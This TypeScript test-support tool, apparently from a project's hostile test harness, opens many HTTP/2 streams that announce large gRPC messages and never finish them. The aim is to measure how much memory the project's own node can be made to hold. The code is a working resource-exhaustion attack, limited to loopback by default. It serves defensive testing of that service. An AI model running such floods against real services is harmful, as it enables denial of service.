// Incomplete gRPC messages against a guest port, bounded in count, size and time and aimed at
// loopback: each of `streams` raw HTTP/2 streams (spread over `connections` connections) sends,
// optionally, a valid Open (a tenant's credentials: an authenticated session), then a gRPC
// length prefix announcing `announceBytes` and only `sendBytes` of them, and never finishes the
// message. grpc-js reads a stream until it holds a whole message, so without a bound of the
// node's own each such stream makes the node hold what it sent (docs/security.md, "Memory a
// guest can make the node hold"). Binding `localAddress` (another 127.x address) makes the
// attacker a source apart from normal guests on 127.0.0.1. Test support and a developer tool:
//   node test/dist/support/incomplete-messages.js HOST:PORT --streams 12 --send-mib 32 \
//     --local 127.0.0.2 --hold 10
// prints what the node did with the streams as JSON once every stream is sent or ended, holds
// them for --hold seconds, then closes them all.
import { type ClientHttp2Session, type ClientHttp2Stream, connect as h2connect } from "node:http2";
import { connect as netConnect } from "node:net";
import { parseArgs } from "node:util";
import { create, toBinary } from "@bufbuild/protobuf";
import { wire } from "@vgpu-ha/common";
import { errorCodeName } from "../hostile/attacks/h2-frames.js";
import { runIfMain } from "./run-main.js";

export interface IncompleteMessagesOptions {
  readonly target: string;
  readonly streams: number;
  readonly connections?: number;
  /** What each stream's length prefix announces (at most the node's guest.maxMessageBytes). */
  readonly announceBytes: number;
  /** What each stream sends of it (less than announceBytes: the message never completes). */
  readonly sendBytes: number;
  readonly localAddress?: string;
  /** Send this Open first (a tenant's credentials): the streams are authenticated sessions. */
  readonly open?: { tenant: string; token: string };
  /** Gives up waiting for the streams' bytes to leave after this long. */
  readonly timeoutMs?: number;
  /**
   * Opens each connection instead (the hostile harness's own, which checks its target and may
   * use TLS); the default dials `target`, loopback only.
   */
  readonly connect?: () => ClientHttp2Session;
}

export interface IncompleteMessagesResult {
  streams: number;
  /** Bytes of the incomplete messages the node took (write callbacks without error). */
  bytesTaken: number;
  /** Streams whose every byte the node took, still open when the sending was over. */
  streamsHolding: number;
  /** Streams the node reset, by HTTP/2 error code. */
  resets: Record<string, number>;
  /** Streams the node ended with a gRPC status, by status. */
  statuses: Record<string, number>;
  /** GOAWAYs received, by code. */
  goaways: Record<string, number>;
}

export interface IncompleteMessagesAttack {
  readonly result: IncompleteMessagesResult;
  /** Destroys every stream and connection. */
  close(): void;
}

/** What the attacker's own HTTP/2 sessions may queue, in megabytes (Node's default is 10). */
export const ATTACKER_SESSION_MEMORY_MB = 1_000_000;

const HEADERS = {
  ":method": "POST",
  ":path": "/vgpu.v1.Guest/Session",
  "content-type": "application/grpc",
  te: "trailers",
};

/** A gRPC message prefix: not compressed, `length` bytes follow. */
export function grpcPrefix(length: number): Buffer {
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(length, 1);
  return prefix;
}

function openMessage(open: { tenant: string; token: string }): Buffer {
  const body = toBinary(
    wire.GuestMessageSchema,
    create(wire.GuestMessageSchema, { kind: { case: "open", value: open } }),
  );
  return Buffer.concat([grpcPrefix(body.length), body]);
}

/**
 * Opens the streams and sends; resolves once every stream has sent all it means to, or was
 * ended by the node (or timeoutMs passed). The streams stay open until close().
 */
export async function incompleteMessages(
  options: IncompleteMessagesOptions,
): Promise<IncompleteMessagesAttack> {
  const host = options.target.slice(0, options.target.lastIndexOf(":"));
  const port = Number(options.target.slice(options.target.lastIndexOf(":") + 1));
  if (options.connect === undefined && !host.startsWith("127.") && host !== "localhost") {
    throw new Error(`the attack aims at loopback only, not ${host}`);
  }
  if (options.sendBytes >= options.announceBytes) {
    throw new Error("sendBytes must be less than announceBytes: the message must not complete");
  }
  const result: IncompleteMessagesResult = {
    streams: 0,
    bytesTaken: 0,
    streamsHolding: 0,
    resets: {},
    statuses: {},
    goaways: {},
  };
  const sessions: ClientHttp2Session[] = [];
  const connections = Math.max(1, Math.min(options.connections ?? 1, options.streams));
  for (let i = 0; i < connections; i++) {
    const session =
      options.connect?.() ??
      h2connect(`http://${host}:${port}`, {
        // Megabytes; Node's default (10) resets the attacker's own streams while it queues.
        maxSessionMemory: ATTACKER_SESSION_MEMORY_MB,
        createConnection: () =>
          netConnect({
            host,
            port,
            ...(options.localAddress ? { localAddress: options.localAddress } : {}),
          }),
      });
    session.on("error", () => undefined);
    session.on("goaway", (code) => {
      const name = errorCodeName(code);
      result.goaways[name] = (result.goaways[name] ?? 0) + 1;
    });
    sessions.push(session);
  }
  // One payload for all streams: the attacker's own memory stays small.
  const payload = Buffer.alloc(options.sendBytes, 0x5a);
  const head = Buffer.concat([
    options.open ? openMessage(options.open) : Buffer.alloc(0),
    grpcPrefix(options.announceBytes),
  ]);
  const one = (session: ClientHttp2Session) =>
    new Promise<void>((resolve) => {
      let stream: ClientHttp2Stream;
      try {
        stream = session.request(HEADERS, { endStream: false });
      } catch {
        resolve();
        return;
      }
      result.streams++;
      let done = false;
      const finish = () => {
        if (done) return;
        done = true;
        resolve();
      };
      stream.on("error", () => undefined);
      stream.on("trailers", (trailers) => {
        const s = String(trailers["grpc-status"] ?? "?");
        result.statuses[s] = (result.statuses[s] ?? 0) + 1;
      });
      stream.on("response", (headers) => {
        // A trailers-only answer carries its status in the headers.
        if (headers["grpc-status"] !== undefined) {
          const s = String(headers["grpc-status"]);
          result.statuses[s] = (result.statuses[s] ?? 0) + 1;
        }
      });
      stream.on("close", () => {
        const code = stream.rstCode ?? 0;
        if (code !== 0) {
          const name = errorCodeName(code);
          result.resets[name] = (result.resets[name] ?? 0) + 1;
        }
        finish();
      });
      stream.on("data", () => undefined); // read the node's answers, if any
      stream.write(head);
      stream.write(payload, (error) => {
        if (error || stream.destroyed || stream.closed) {
          finish();
          return;
        }
        result.bytesTaken += payload.length;
        result.streamsHolding++;
        finish();
      });
    });
  const sent = Promise.all(
    Array.from({ length: options.streams }, (_, i) => one(sessions[i % connections]!)),
  );
  const timeoutMs = options.timeoutMs ?? 60_000;
  let timer: NodeJS.Timeout | undefined;
  const timeout = new Promise((r) => {
    timer = setTimeout(r, timeoutMs);
  });
  await Promise.race([sent, timeout]);
  clearTimeout(timer);
  return {
    result,
    close: () => {
      for (const s of sessions) s.destroy();
    },
  };
}

async function main(argv: string[]): Promise<number> {
  const { values, positionals } = parseArgs({
    args: argv,
    allowPositionals: true,
    options: {
      streams: { type: "string", default: "12" },
      connections: { type: "string", default: "1" },
      "announce-mib": { type: "string", default: "64" },
      "send-mib": { type: "string", default: "32" },
      local: { type: "string" },
      tenant: { type: "string" },
      token: { type: "string" },
      hold: { type: "string", default: "10" },
    },
  });
  const target = positionals[0];
  if (target === undefined) {
    console.error(
      "usage: incomplete-messages.js HOST:PORT [--streams 12] [--connections 1] [--announce-mib 64] [--send-mib 32] [--local 127.0.0.2] [--tenant T --token K] [--hold 10]",
    );
    return 2;
  }
  const MiB = 1024 ** 2;
  const attack = await incompleteMessages({
    target,
    streams: Number(values.streams),
    connections: Number(values.connections),
    announceBytes: Math.floor(Number(values["announce-mib"]) * MiB),
    sendBytes: Math.floor(Number(values["send-mib"]) * MiB),
    ...(values.local ? { localAddress: values.local } : {}),
    ...(values.tenant && values.token
      ? { open: { tenant: values.tenant, token: values.token } }
      : {}),
  });
  console.log(JSON.stringify(attack.result));
  await new Promise((r) => setTimeout(r, Number(values.hold) * 1000));
  attack.close();
  return 0;
}

runIfMain(import.meta.url, main);
